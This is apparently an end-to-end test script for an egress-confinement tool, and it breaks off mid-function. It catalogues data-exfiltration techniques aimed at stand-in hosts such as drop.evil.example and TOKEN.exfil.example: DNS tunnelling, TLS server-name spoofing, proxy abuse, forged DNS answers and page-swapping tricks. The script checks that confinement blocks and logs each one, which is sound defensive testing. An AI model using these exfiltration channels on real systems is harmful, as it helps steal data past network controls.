# SPDX-License-Identifier: Apache-2.0
"""End to end: every way out first without crmfence, where it has to leak; then confined, where it must not, with an unconfined twin
beside it; then in monitor mode, where it leaks again and is recorded. The sniffer and the servers say what arrived, never our log.

usage: [PART=1|2] run.py [NAME...]; ends with "N passed, N failed, N skipped". PART: one of two halves, which may run side by side.
"""
import fnmatch
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, HERE + "/../world")
import alerts  # noqa: E402
import apart  # noqa: E402
import browsers  # noqa: E402
import closed  # noqa: E402
import crm  # noqa: E402
import dns  # noqa: E402
import faults  # noqa: E402
import hostile  # noqa: E402
import launch  # noqa: E402
import log  # noqa: E402
import packets  # noqa: E402
import recognise  # noqa: E402
import renewed  # noqa: E402
import root  # noqa: E402
import scanned  # noqa: E402
import sight  # noqa: E402
import tunnels  # noqa: E402
import world as W  # noqa: E402
from world import AI, DNS, FOREIGN, OWN, OWN2, SHARED, World, token  # noqa: E402

LEAK = ["/usr/bin/python3", "-"]  # the second is filled in once the world has a directory that every user may read
results = {"passed": 0, "failed": 0, "skipped": 0}
only = sys.argv[1:]


def wanted(name):
    return not only or any(fnmatch.fnmatch(name, p) for p in only)


def result(name, problems, seconds=0):
    results["failed" if problems else "passed"] += 1
    print("%s %s%s%s" % ("FAIL" if problems else "ok  ", name, ", %d s" % seconds if seconds >= 10 else "", "".join("\n     " + p for p in problems)), flush=True)


# name, arguments of leak.py, reason that the log must give, error that the program must see
WAYS = [
    ("foreign-org", ["https", "evil.my.salesforce.com"], "dns-name", "gaierror"),
    ("foreign-site", ["https", "evil.my.site.com"], "dns-name", "gaierror"),
    ("vendor-name", ["https", "api.ai-vendor.example"], "dns-name", "gaierror"),
    ("vendor-v4", ["at", AI, "api.ai-vendor.example", "whole"], "address-unknown", "EPERM"),
    ("vendor-v6", ["at", "fd99::30", "api.ai-vendor.example", "whole"], "address-unknown", "EPERM"),
    ("vendor-v4-as-own", ["at", AI, "acme.my.salesforce.com", "whole"], "address-unknown", "EPERM"),
    ("vendor-mapped", ["mapped", AI], "address-unknown", "EPERM"),
    ("vendor-fastopen", ["fastopen", AI], "address-unknown", "EPERM"),
    ("shared-whole", ["known-at", "models.acme.example", "drop.evil.example", "whole"], "server-name", "ECONNABORTED"),
    ("shared-two-sends", ["known-at", "models.acme.example", "drop.evil.example", "two"], "server-name", "ECONNABORTED"),
    ("shared-byte-by-byte", ["known-at", "models.acme.example", "drop.evil.example", "bytes"], "server-name", None),
    ("shared-many-records", ["known-at", "models.acme.example", "drop.evil.example", "records"], "server-name", "ECONNABORTED"),
    ("shared-big-hello", ["known-at", "models.acme.example", "drop.evil.example", "big"], "server-name", "ECONNABORTED"),
    ("shared-no-name", ["known-at", "models.acme.example", "-", "whole"], "no-server-name", "ECONNABORTED"),
    ("own-name-elsewhere", ["known-at", "models.acme.example", "acme.my.salesforce.com", "whole"], "name-elsewhere", "ECONNABORTED"),
    ("urgent-data", ["urgent", "models.acme.example"], "hello", "ECONNABORTED"),
    ("stale-walk", ["reconnect", "models.acme.example"], "not-tls", None),
    ("source-route", ["source-route", AI, OWN], "socket-option", "EPERM"),
    ("plain-http", ["http", "models.acme.example", "80"], "address-unknown", "EPERM"),
    ("plain-on-443", ["http", "acme.my.salesforce.com", "443"], "not-tls", "ECONNABORTED"),
    ("udp-v4", ["udp", AI, "9999"], "address-unknown", "EPERM"),
    ("udp-v6", ["udp", "fd99::30", "9999"], "address-unknown", "EPERM"),
    ("udp-to-own", ["udp-connected", "acme.my.salesforce.com", "443"], "udp", "EPERM"),
    ("dns-foreign", ["dns", DNS, "TOKEN.exfil.example", "1"], "dns-name", "EPERM"),
    ("dns-txt", ["dns", DNS, "TOKEN.exfil.example", "16"], "dns-name", "EPERM"),
    ("dns-txt-own", ["dns", DNS, "acme.my.salesforce.com", "16"], "dns-type", "EPERM"),
    ("dns-long-labels", ["dns", DNS, "TOKEN." + ".".join(["a" * 60] * 3) + ".exfil.example", "1"], "dns-name", "EPERM"),
    ("dns-under-own", ["dns", DNS, "TOKEN.acme.my.salesforce.com", "1"], "dns-name", "EPERM"),
    ("dns-tail", ["dns-tail", DNS, "acme.my.salesforce.com"], "dns-form", "EPERM"),
    ("dns-opt", ["dns-opt", DNS, "acme.my.salesforce.com"], "dns-form", "EPERM"),
    ("dns-tcp", ["dns-tcp", DNS, "TOKEN.exfil.example"], "dns-name", "ECONNABORTED"),
    ("dns-tcp-tail", ["dns-tcp-tail", DNS, "acme.my.salesforce.com"], "dns-form", "ECONNABORTED"),
    ("dns-tcp-opt", ["dns-tcp-opt", DNS, "acme.my.salesforce.com"], "dns-form", "ECONNABORTED"),
    ("dns-tcp-split", ["dns-tcp-split", DNS, "TOKEN.exfil.example"], "dns-form", "ECONNABORTED"),
    ("dns-other-resolver", ["udp", AI, "53"], "address-unknown", "EPERM"),
    ("proxy-foreign", ["proxy", "api.ai-vendor.example", "443", "api.ai-vendor.example"], "proxy-name", "ECONNABORTED"),
    ("proxy-other-port", ["proxy", "acme.my.salesforce.com", "80", "acme.my.salesforce.com"], "proxy-name", "ECONNABORTED"),
    ("proxy-name-inside", ["proxy", "models.acme.example", "443", "drop.evil.example"], "server-name", "ECONNABORTED"),
    ("proxy-get", ["proxy-get"], "proxy-method", "ECONNABORTED"),
    ("icmp", ["icmp", AI], "socket-kind", "EPERM"),
    ("double-fork-setuid", ["double-fork", AI], "address-unknown", None),
]
QUIET = {"dns-txt-own", "shared-no-name"}  # what leaks there is the question itself, or lands at an address, not under a name
NO_RIGHT = {"icmp"}  # the right to it is gone before any hook is asked, so nobody records it
NO_TLS_ON_PORT = {"plain-on-443", "proxy-other-port", "dns-other-resolver", "udp-to-own"}  # the server takes it for noise; the wire has it


def arrived(w, name, tok):
    """Did anything arrive that the case is about?"""
    if name == "dns-txt-own":
        return ["resolver"] if "query[TXT] acme.my.salesforce.com" in open(w.dir + "/dns.log").read() else []
    if name == "proxy-other-port":
        return ["proxy"] if '"CONNECT","url":"acme.my.salesforce.com:80"' in open(w.dir + "/arrived.jsonl").read() else []
    return w.arrived(tok)


def clear(w):
    open(w.dir + "/dns.log", "w").close()
    open(w.dir + "/arrived.jsonl", "w").close()


def ways(w):
    """Without, with, and in monitor mode."""
    cases = [c for c in WAYS if wanted(c[0])]
    problems = {c[0]: [] for c in cases}
    for name, args, _, _ in cases:
        tok = token()
        w.run(*LEAK, *args, tok, confined=False)
        time.sleep(0.05 if name == "double-fork-setuid" else 0)
        if not arrived(w, name, tok):
            problems[name].append("does not leak without crmfence: the case proves nothing")
    clear(w)
    w.start()
    told = {}
    for name, args, reason, error in cases:
        tok, twin, before = token(), token(), len(w.rows("deny"))
        code, out = w.run(*LEAK, *args, tok)
        code2, out2 = w.run(*LEAK, *args, twin, confined=False)
        told[name] = (tok, twin, out, before, len(w.rows("deny")))
        if error and not out.startswith(error):
            problems[name].append("the program should see %s, saw %r" % (error, out))
        took = re.search(r" (\d+)ms$", out)
        if took and error == "ECONNABORTED" and int(took[1]) > (700 if name == "urgent-data" else 400) * W.SLOW:  # a dial, then the refusal within 100 ms; room for a busy machine
            problems[name].append("the error came late: %r" % out)
    time.sleep(2)  # retransmits
    denials = w.rows("deny")
    for name, args, reason, error in cases:
        tok, twin, out, before, after = told[name]
        if name not in QUIET and name not in ("proxy-other-port",) and w.arrived(tok):
            problems[name].append("LEAKED while confined: %s (%r)" % (w.arrived(tok), out))
        if name not in ("dns-txt-own", "proxy-other-port") and not w.arrived(twin):
            problems[name].append("the unconfined twin was harmed")
        mine = [d for d in denials[before:after] if d["session"] != "0"]
        if name not in NO_RIGHT and not any(d["reason"] == reason and d["action"] == "deny" for d in mine):
            problems[name].append("no denial with reason %s in the log, but %s" % (reason, [d["reason"] for d in mine]))
    w.stop()
    clear(w)
    w.start(mode="monitor")
    for name, args, reason, error in cases:
        tok, before = token(), len(w.rows("deny"))
        w.run(*LEAK, *args, tok)
        time.sleep(0.1)
        if not arrived(w, name, tok):
            problems[name].append("monitor mode blocked it")
        mine = [d for d in w.rows("deny")[before:]]
        if not any(d["reason"] == reason for d in mine) or any(d["action"] != "would-deny" for d in mine):
            problems[name].append("monitor mode should record would-deny %s, recorded %s" % (reason, [(d["action"], d["reason"]) for d in mine]))
    w.stop()
    for name, found in problems.items():
        result("way out: " + name, found)


# ---- the allowed side, and the rest ----

CASES = []


def case(f):
    CASES.append(f)
    return f


@case
def allowed_hosts(w):
    """curl (HTTP/2), Python, wget (GnuTLS): own org, own sandbox shape, the listed host, each split of the hello."""
    bad = []
    for cmd in (["curl", "-sS", "-m", "10", "-d", "TOK", "https://acme.my.salesforce.com/x"],
                ["curl", "-sS", "-4", "-m", "10", "--http1.1", "-d", "TOK", "https://acme--c.vf.force.com/x"],
                ["wget", "-q", "-T", "10", "-t", "1", "-O", "-", "--ca-certificate=" + w.dir + "/cert.pem", "--post-data=TOK",
                 "https://models.acme.example/x"],
                LEAK + ["https", "acme.lightning.force.com", "TOK"], LEAK + ["http", "plain.acme.example", "80", "TOK"],
                LEAK + ["proxy", "models.acme.example", "443", "models.acme.example", "TOK"]) + tuple(
                    LEAK + ["known-at", "models.acme.example", "models.acme.example", how, "TOK"]
                    for how in ("whole", "two", "bytes", "records", "big")):
        tok = token()
        code, out = w.run(*[a.replace("TOK", tok) for a in cmd])
        if code or not w.arrived(tok):
            bad.append("%s: %s %r" % (" ".join(cmd), code, out[-300:]))
    return bad


def own_and_foreign(w, command, find=""):
    """A client that can reach the own org and nobody else; outside a session it reaches both."""
    bad = []
    for host, confined, want in (("api.ai-vendor.example", False, True), ("acme.my.salesforce.com", True, True),
                                 ("api.ai-vendor.example", True, False), ("evil.my.salesforce.com", True, False)):
        tok = token()
        code, out = w.run(*command(host, tok), confined=confined, timeout=40)
        if bool(w.arrived(tok)) != want or (want and find not in out):
            bad.append("%s %s: arrived %s, %r" % (host, "confined" if confined else "free", w.arrived(tok), out[-300:]))
    return bad


@case
def node_fetch(w):
    tok = token()
    js = "fetch('https://acme.my.salesforce.com/x',{method:'POST',body:'%s'}).then(r=>r.text()).then(console.log)" % tok
    code, out = w.run("node", "-e", js)
    bad = [] if not code and w.arrived(tok) else ["node was refused: %r" % out]
    tok = token()
    js = js.replace("acme.my", "evil.my")
    code, out = w.run("node", "-e", js)
    return bad + (["node leaked"] if w.arrived(tok) or not code else [])


@case
def go_program(w):
    if not shutil.which("go"):
        return "go is not installed"
    W.sh("go", "build", "-o", w.dir + "/goclient", HERE + "/client.go",
         env=dict(os.environ, GOCACHE=w.dir + "/gocache", GO111MODULE="off", CGO_ENABLED="0"))
    return own_and_foreign(w, lambda host, tok: [w.dir + "/goclient", host, tok])


@case
def chromium(w):
    """Headless Chromium as a session: the org's page is loaded, the vendor's is not, whatever of its own it tries to reach."""
    if not shutil.which("chromium"):
        return "chromium is not installed"
    return own_and_foreign(w, lambda host, tok: [
        "chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
        "--disable-component-update", "--disable-sync", "--ignore-certificate-errors", "--user-data-dir=%s/%s" % (w.dir, tok),
        "--timeout=8000", "--dump-dom", "https://%s/%s" % (host, tok)], find="ok")


@case
def quic(w):
    """A real QUIC client: its packets arrive without crmfence's session, and not one with it."""
    if not shutil.which("gtlsclient") or not shutil.which("gtlsserver"):
        return "ngtcp2-client and ngtcp2-server are not installed"
    w.spawn(w.net, "gtlsserver", "-q", AI, "4433", w.dir + "/key.pem", w.dir + "/cert.pem")
    w.spawn(w.net, "gtlsserver", "-q", OWN, "443", w.dir + "/key.pem", w.dir + "/cert.pem")
    time.sleep(0.3)
    bad = []
    for addr, port, reason in ((AI, 4433, "address-unknown"), (OWN, 443, "udp")):
        key = "%s 17 %d" % (addr, port)
        w.run(*LEAK, "https", "acme.my.salesforce.com", token())  # the own org's address is known
        client = ["gtlsclient", "-q", "--exit-on-first-stream-close", "--timeout=2s", addr, str(port), "https://acme.my.salesforce.com/x"]
        before = w.sniffed()["flows"].get(key, {"octets": 0})["octets"]
        w.run(*client, timeout=5)
        confined = w.sniffed()["flows"].get(key, {"octets": 0})["octets"] - before
        w.run(*client, confined=False, timeout=5)
        free = w.sniffed()["flows"].get(key, {"octets": 0})["octets"] - before - confined
        if confined or free < 1200:
            bad.append("%s: %d octets confined, %d free" % (addr, confined, free))
        if not any(d["reason"] == reason and d["addr"] == addr for d in w.rows("deny")):
            bad.append("%s: no denial %s" % (addr, reason))
    return bad


@case
def jsforce(w):
    """A real client, 8 workers at once, not one failure."""
    if not os.path.isdir(W.ROOT + "/tests/e2e/node_modules/jsforce"):
        return "jsforce is not installed (npm ci in tests/e2e)"
    calls = int(os.environ.get("CALLS", "400"))
    ps = [w.popen("node", HERE + "/jsforce.js", str(calls // 8)) for _ in range(8)]
    outs = [p.communicate(timeout=300)[0] for p in ps]
    return ["worker failed: " + o[-300:] for p, o in zip(ps, outs) if p.returncode]


@case
def many_addresses(w):
    """An answer that a datagram has no room for is asked for again over TCP, by the C library and by a program of its own; its
    addresses are reached, each way that messages may be cut into segments."""
    bad, before = [], max([r["id"] for r in w.rows()])
    for how in ("ahostsv4", "ahosts"):
        code, out = w.run("getent", how, "acme--many.vf.force.com")
        if code or len(set(line.split()[0] for line in out.splitlines())) != 61:
            bad.append("getent %s: %d %r" % (how, code, out[-200:]))
    asked = [r for r in w.rows("flow") if r["port"] == 53 and r["id"] > before]
    if len([r for r in asked if r["proto"] == "tcp" and r["action"] == "allow"]) < 2:
        bad.append("what was asked over TCP: %s" % asked)
    for cut in ("whole", "length", "two"):
        code, out = w.run("python3", HERE + "/bigdns.py", cut, DNS, "acme--many.vf.force.com")
        if code or out.split() != ["61", "reached", "61", "refused", "0"]:
            bad.append("%s: %d %r" % (cut, code, out[-300:]))
    denied = [d for d in w.rows("deny") if d["port"] == 53 and d["id"] > before]
    return bad + (["denials: %s" % denied] if denied else [])


@case
def swapped_pages(w):
    """A question and a hello that are allowed when they are looked at and others when they arrive: they were spliced from pages that
    their sender writes to again. Without crmfence it works; a session is refused, however it was begun."""
    bad = []
    shutil.copy("/usr/bin/python3", w.dir + "/assistantd")
    ways = W.sh(W.BUILD + "/crmfence", "doctor", "--json", "--control", w.control, check=False).stdout
    said = '"way":"shared pages"' in ways  # a kernel before 6.2: of a recognised session's hello nobody sees whose pages it has
    for args, reason in ((["dns-swap", DNS, "acme--ccccccc.vf.force.com", "TOKEN.exfil.example"], "dns-form"),
                         (["hello-swap", "models.acme.example", "dropit.evil.example"], "hello")):
        tok, own, launched = token(), token(), token()
        w.run(*LEAK, *args, tok, confined=False)
        if not w.arrived(tok):
            if said and args[0] == "dns-swap":  # there a datagram's octets leave before its sender comes back
                continue
            bad.append("%s does not leak without crmfence: the case proves nothing" % args[0])
        before = len(w.rows("deny"))
        code, out = w.run(w.dir + "/assistantd", LEAK[1], *args, own, confined=False)
        if said and args[0] == "hello-swap":
            if not w.arrived(own):
                bad.append("doctor says that shared pages stay open, and they are held")
        elif w.arrived(own) or not any(d["reason"] == reason for d in w.rows("deny")[before:]):
            bad.append("%s, recognised: %s arrived, %r, %s" % (args[0], w.arrived(own), out[-200:], w.rows("deny")[before:]))
        code, out = w.run(*LEAK, *args, launched)
        if w.arrived(launched):
            bad.append("%s, exec: %s arrived, %r" % (args[0], w.arrived(launched), out[-200:]))
    return bad


@case
def upload(w):
    """A large upload through a confined session arrives whole."""
    size = int(os.environ.get("UPLOAD_MB", "100")) << 20
    code, out = w.run("sh", "-c", "head -c %d /dev/zero | curl -sS --http1.1 -T - -H Expect: https://acme.my.salesforce.com/upload" % size,
                      timeout=300)
    got = [json.loads(x)["size"] for x in open(w.dir + "/arrived.jsonl") if '"/upload"' in x]
    return [] if not code and got == [size] else ["%s %r, arrived %s of %d" % (code, out, got, size)]


@case
def rotation(w):
    """A name moves between addresses under a TTL of 5 s while calls run: none fails, and an old address is not remembered for ever."""
    js = ("const https=require('https');let n=0,bad=0;const end=Date.now()+%d;(function go(){if(Date.now()>end){console.log(n,bad);"
          "process.exit(bad?1:0)}https.get({host:'rotate.acme.example',path:'/quiet',agent:false,family:4},r=>{r.resume();r.on('end',()=>{n++;"
          "setTimeout(go,5)})}).on('error',e=>{bad++;console.log(e.message);setTimeout(go,5)})})()" % 6000)
    p = w.popen("node", "-e", js)
    pids = W.sh("pgrep", "-P", str(w.dns.pid), check=False).stdout.split() or [str(w.dns.pid)]
    for i in range(10):
        time.sleep(0.5)
        w.hosts(dict(W.NAMES, **{"rotate.acme.example": OWN2 if i % 2 else OWN}))
        for pid in pids:
            os.kill(int(pid), 1)
    out = p.communicate(timeout=30)[0]
    w.hosts()
    return [] if p.returncode == 0 and int(out.split()[-2]) > 50 / W.SLOW else ["calls failed: " + out[-300:]]


@case
def forged_answers(w):
    """With the resolver silent, forged answers with one field wrong, or late, open no address; with every field right, one does:
    that is the control, and what an attacker who can forge the resolver's packets could do."""
    pids = W.sh("pgrep", "-P", str(w.dns.pid), check=False).stdout.split() or [str(w.dns.pid)]
    bad = []

    def forged(name, want, evil, source=DNS, ident="1234", host="acme.my.salesforce.com", late=0.0, local=False):
        p = w.popen("python3", HERE + "/forge.py", "ask", DNS, evil, str(late + 1.5))
        port = p.stdout.readline().strip()
        time.sleep(late)
        sent = W.sh("ip", "netns", "exec", w.lap if local else w.net, "python3", HERE + "/forge.py", "answer", source, port, ident, host, evil)
        out = p.communicate(timeout=30)[0]
        if sent.stdout != "forged\n" or not out.startswith(want):
            bad.append("%s: %r %r" % (name, sent.stdout, out))

    try:
        for pid in pids:
            os.kill(int(pid), signal.SIGSTOP)
        forged("wrong id", "closed 1", AI, ident="4321")
        forged("another resolver's address", "closed 1", AI, source=OWN)
        forged("another name", "closed 1", AI, host="evil.my.salesforce.com")
        forged("late", "closed 1", AI, late=10.5)
        forged("by a local process, wrong id", "closed 1", AI, ident="4321", local=True)
        forged("by a local process, all right", "closed 1", AI, local=True)
        forged("control: all right", "open", FOREIGN)
    finally:
        for pid in pids:
            os.kill(int(pid), signal.SIGCONT)
    return bad


@case
def loopback(w):
    """A helper on the same machine is no way out, at 127.0.0.1, 0.0.0.0, ::1 or the own address."""
    bad = []
    helper = w.popen("python3", "-c", "import socket,sys\ns=socket.create_server(('::',7070),family=socket.AF_INET6,dualstack_ipv6=True)\n"
                     "print('up',flush=True)\nwhile 1:\n c,_=s.accept();print(c.recv(99).decode(),flush=True);c.close()", confined=False)
    helper.stdout.readline()
    lines = []
    threading.Thread(target=lambda: [lines.append(x.strip()) for x in helper.stdout], daemon=True).start()
    for a in ("127.0.0.1", "0.0.0.0", "::1", "10.99.0.2"):
        tok, twin = token(), token()
        _, out = w.run(*LEAK, "loopback", a, "7070", tok)
        w.run(*LEAK, "loopback", a, "7070", twin, confined=False)
        time.sleep(0.2)
        if tok in lines or not out.startswith("EPERM"):
            bad.append("%s: %r%s" % (a, out, " and the helper has it" if tok in lines else ""))
        if twin not in lines:
            bad.append("%s: the twin was harmed" % a)
    helper.kill()
    return bad


@case
def listening(w):
    """A session does not listen, so nobody can fetch from it."""
    def fetched(confined):
        tok = token()
        p = w.popen(*LEAK, "listen", "7171", tok, confined=confined)
        time.sleep(1)
        got = W.sh("ip", "netns", "exec", w.net, "python3", "-c", "import socket\ns=socket.socket()\ns.settimeout(2)\n"
                   "try:\n s.connect(('10.99.0.2',7171))\n print(s.recv(99).decode())\nexcept OSError as e:\n print(e)", check=False).stdout
        return p.communicate(timeout=10)[0], tok in got

    free, leaked = fetched(False)
    if not leaked:
        return ["nobody could fetch from an unconfined listener: the case proves nothing (%r)" % free]
    out, leaked = fetched(True)
    code2, out2 = w.run("python3", "-c", "import socket\ns=socket.socket()\ns.listen()\ns.settimeout(1)\n"
                        "c=socket.socket()\nc.connect(('10.99.0.2',s.getsockname()[1]))")
    return ([] if out.startswith("EPERM") and not leaked else ["bind: %r" % out]) + ([] if code2 else ["listen without bind was reached"])


@case
def options(w):
    """Options that change routes or open layer 2 are refused; a large option of an unconfined process passes unharmed."""
    probe = ("import socket\ns=socket.socket(socket.AF_INET6)\n"
             "try:\n s.setsockopt(41,57,b'\\0'*24)\n print('set')\nexcept OSError as e:\n print(e.errno)")
    _, out = w.run("python3", "-c", probe)
    big = "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_RAW,255)\ntry:\n s.setsockopt(0,64,b'\\0'*8192)\nexcept OSError as e:\n print(e.errno)"
    _, free = w.run("python3", "-c", big, confined=False)
    freebind = ("import socket\ns=socket.socket(socket.AF_INET%s,socket.SOCK_DGRAM)\n"
                "try:\n s.setsockopt(%d,%d,1)\n s.bind((%r,0))\n print('bound')\nexcept OSError as e:\n print(e.errno)")
    for what in (("", 0, 15, "198.51.100.9"), ("6", 41, 78, "2001:db8::9")):  # an address of nobody's as its own: an answer goes there
        bare, held = (w.run("python3", "-c", freebind % what, confined=c)[1].strip() for c in (False, True))
        if (bare, held) != ("bound", "1"):
            out = "FREEBIND %s, unconfined %s" % (held, bare)
    return ([] if out.strip() == "1" else ["IPV6_RTHDR: %r" % out]) + (["large option: EFAULT"] if free.strip() == "14" else [])


@case
def exit_status_and_signals(w):
    code, out = w.run("sh", "-c", "echo to stdout; exit 42")
    bad = [] if (code, out) == (42, "to stdout\n") else ["status %s output %r" % (code, out)]
    long = "60.%d" % os.getpid()
    p = w.popen("sleep", long)
    w.wait(lambda: W.sh("pgrep", "-fx", "sleep " + long, check=False).stdout, "sleep")
    W.sh("pkill", "-TERM", "-fx", "sleep " + long)
    if p.wait(5 * W.SLOW) != -15:
        bad.append("a signal gave %s" % p.returncode)
    code, out = w.run("true", tool="nobody")
    if code != 2 or "no tool" not in out:
        bad.append("unknown tool: %s %r" % (code, out))
    return bad


def connector(w, path, flags=()):
    """A program whose first act is to connect to argv[1], port 80, and to send argv[2]."""
    src = w.dir + "/first.c"
    with open(src, "w") as f:
        f.write('#include <arpa/inet.h>\n#include <errno.h>\n#include <stdio.h>\n#include <string.h>\n#include <sys/socket.h>\n#include <unistd.h>\n'
                'int main(int c,char**v){struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(80)};inet_pton(AF_INET,v[1],&a.sin_addr);'
                'if(c>3)usleep(500000);'
                'int s=socket(AF_INET,SOCK_STREAM,0);if(connect(s,(void*)&a,sizeof a)){printf("%s\\n",strerror(errno));return 1;}'
                'write(s,v[2],strlen(v[2]));sleep(1);puts("sent");return 0;}')
    W.sh("gcc", "-w", *flags, "-o", path, src)


@case
def match_at_exec(w):
    """The tool's own executable is confined before its first instruction: its first act is a connect."""
    connector(w, w.dir + "/assistantd")
    W.sh("cp", w.dir + "/assistantd", w.dir + "/other")
    tok, twin, bad, before = token(), token(), [], max([r["id"] for r in w.rows()] or [0])
    for _ in range(20):
        code, out = w.run(w.dir + "/assistantd", AI, tok, confined=False)
        if code != 1 or "not permitted" not in out:
            bad.append("by path: %s %r" % (code, out))
            break
    code, out = w.run(w.dir + "/other", AI, "chrome-extension://abcdefghijklmnopabcdefghijklmnop/", confined=False)
    if code != 1:
        bad.append("an origin behind an interpreter's script: %r" % out)
    code, out = w.run("sh", "-c", "exec %s/other %s %s" % (w.dir, AI, twin), confined=False)
    if w.arrived(tok) or not w.arrived(twin):
        bad.append("token %s twin %s" % (w.arrived(tok), w.arrived(twin)))
    native = "import os, socket\nif not os.fork():\n os.execv('/bin/sleep', ['sleep', '0.3'])\nos.wait()\ntry:\n socket.create_connection(('%s',80),3).sendall(b'%s')\nexcept OSError as e:\n print(e.errno)" % (AI, tok)
    with open(w.dir + "/host.py", "w") as f:
        f.write("#!/usr/bin/python3\n" + native)
    os.chmod(w.dir + "/host.py", 0o755)
    code, out = w.run("/usr/bin/python3", "-c", native, "chrome-extension://abcdefghijklmnopabcdefghijklmnop/", confined=False)
    code, out = w.run(w.dir + "/host.py", "chrome-extension://abcdefghijklmnopabcdefghijklmnop/", confined=False)
    if out.strip() != "1":
        bad.append("native messaging host: %r" % out)
    kinds = {r["match"] for r in w.rows("session") if "match" in r}
    tied = {os.path.basename(r["exe"])[:6] for r in w.rows("process") if r["id"] > before and r.get("extension") == "abcdefghijklmnopabcdefghijklmnop"}
    bad += [] if tied == {"other", "python", "sleep"} else ["processes of the extension's host: %s" % tied]
    return bad + ([] if {"exe", "native-messaging", "crmfence exec"} - kinds == {"crmfence exec"} or len(kinds) >= 2 else ["matches: %s" % kinds])


@case
def attribution(w):
    """Short-lived processes (fork, exec, connect, send, exit at once): each flow has its own program, none is unknown."""
    n = int(os.environ.get("SHORT", "500"))
    src = w.dir + "/short.c"
    with open(src, "w") as f:
        f.write('#include <arpa/inet.h>\n#include <stdlib.h>\n#include <sys/socket.h>\n#include <unistd.h>\n#include <sys/wait.h>\n'
                'int main(int c,char**v){struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(80)};inet_pton(AF_INET,"%s",&a.sin_addr);'
                'if(c>1){int i;for(i=0;i<atoi(v[1]);i++){if(!fork()){execl(v[0],v[0],(char*)0);_exit(9);}wait(0);}return 0;}'
                'int s=socket(AF_INET,SOCK_STREAM,0);if(connect(s,(void*)&a,sizeof a))return 1;write(s,"x",1);return 0;}' % AI)
    W.sh("gcc", "-w", "-O2", "-o", w.dir + "/short", src)
    before = len(w.rows("flow"))
    code, out = w.run(w.dir + "/short", str(n), confined=False, timeout=120)
    time.sleep(1)
    programs = {r["exec"]: r["exe"] for r in w.rows("process")}
    flows = list({r["cookie"]: r for r in w.rows("flow")[before:] if r["port"] == 80}.values())  # a slow one has two rows
    wrong = [r for r in flows if programs.get(r["exec"]) != w.dir + "/short"]
    pids = {r["pid"] for r in flows}
    bad = ["%d flows of %d" % (len(flows), n)] if len(flows) != n else []
    return bad + (["%d flows without their program" % len(wrong)] if wrong else []) + (
        ["%d processes for %d flows" % (len(pids), n)] if len(pids) != n else [])


@case
def replay(w):
    """Every verdict of the kernel so far, decided again in user space from the recorded facts: no difference."""
    rows = [r for r in w.rows() if "facts" in r]
    with open(w.dir + "/facts.txt", "w") as f:
        for r in rows:
            f.write("%s %s %s\n" % (" ".join(map(str, r["facts"])), r["action"], r["reason"]))
    out = W.sh(W.BUILD + "/tests/redecide", w.dir + "/facts.txt", check=False)
    return [] if out.returncode == 0 and len(rows) > 20 else ["%d rows: %s" % (len(rows), out.stdout[-500:])]


@case
def log_is_whole_and_private(w):
    """The chain holds, and no token, request or body reached the disk."""
    w.rows()
    out = W.sh(W.BUILD + "/crmfence", "verify", "--db", w.db, check=False)
    bad = [] if out.returncode == 0 else [out.stdout]
    for f in (w.db, w.db + "-wal", w.dir + "/agent.log"):
        if os.path.exists(f):
            data = open(f, "rb").read()
            if b"POST /x" in data or b"00D5f000000J2PK!" in data:
                bad.append("%s holds a request" % f)
    tokens = {json.loads(x).get("body", "")[:12] for x in open(w.dir + "/arrived.jsonl")}
    data = open(w.db, "rb").read() + open(w.db + "-wal", "rb").read()
    leaked = [t for t in tokens if t.startswith(W.PREFIX) and t.encode() in data]
    return bad + (["tokens in the log: %s" % leaked] if leaked else [])


def kill_keeps(w):
    """kill -9: enforcement stays, the chain is whole, the next agent goes on from it."""
    w.start()
    db = w.db
    hold = w.popen("sleep", "30")
    time.sleep(0.5)
    agent, w.agent = w.agent, None
    p = w.popen("python3", "-c", "import time,subprocess,sys\ntime.sleep(1.5)\nsys.exit(subprocess.call(%r))" % (LEAK + ["at", AI, "x.example", "whole", "TOK"]))
    w.wait(lambda: [r for r in w.rows("session") if r["pid"] == p.pid], "its session")
    agent.kill()
    agent.wait()
    out = p.communicate(timeout=20)[0]
    bad = [] if out.startswith("EPERM") else ["without the agent: %r" % out]
    v = W.sh(W.BUILD + "/crmfence", "verify", "--db", db, check=False)
    bad += [] if v.returncode == 0 else [v.stdout]
    os.unlink(w.control)
    w.start(db=db)
    starts = w.rows("start")
    bad += [] if len(starts) == 2 and starts[1]["adopted"] else ["the second agent did not take over: %s" % starts]
    tok = token()
    _, out = w.run(*LEAK, "at", AI, "x.example", "whole", tok)
    bad += [] if out.startswith("EPERM") and not w.arrived(tok) else ["after the restart: %r" % out]
    hold.kill()
    w.stop()
    v = W.sh(W.BUILD + "/crmfence", "verify", "--db", db, check=False)
    return bad + ([] if v.returncode == 0 else [v.stdout])


def refusals(w):
    """Each reason not to start: one line, exit 2, nothing left behind."""
    agent, bad = W.BUILD + "/crmfenced", []
    base = ["--policy", w.policy(), "--db", w.dir + "/r.db", "--control", w.dir + "/r.sock", "--pin-dir", w.pins]

    def refused(name, args, say, **kw):
        p = W.sh(agent, *args, check=False, **kw)
        if p.returncode != 2 or say not in p.stdout or p.stdout.count("\n") != 1:
            bad.append("%s: %s %r" % (name, p.returncode, p.stdout))
        if os.path.exists(args[-1] if "pin-dir" in args[-2] else w.pins) and " pins" not in name and name[:4] != "pins":
            bad.append(name + ": left pins behind")

    refused("not root", base, "root", user=65534)
    refused("no policy", ["--policy", "/nonexistent"] + base[2:], "no such file")
    with open(w.dir + "/bad.json", "w") as f:
        f.write('{"crmfence": 1,\n "name": }')
    refused("bad policy", ["--policy", w.dir + "/bad.json"] + base[2:], "bad.json:2:10")
    refused("no cgroup", base + ["--cgroup", "/tmp"], "cgroup v2")
    w.start()
    other = W.cgroup2() + "/crmfence-other-%d" % os.getpid()
    os.mkdir(other)
    try:
        refused("pins of another cgroup", base + ["--cgroup", other], "another cgroup")
    finally:
        os.rmdir(other)
    refused("running already", base[:4] + ["--control", w.control, "--pin-dir", w.pins + "x"], "already running")
    w.stop()
    os.makedirs(w.pins, exist_ok=True)
    m = W.sh("bpftool", "map", "create", w.pins + "/config", "type", "array", "key", "4", "value", "96", "entries", "1", "name", "config",
             check=False)
    if m.returncode:
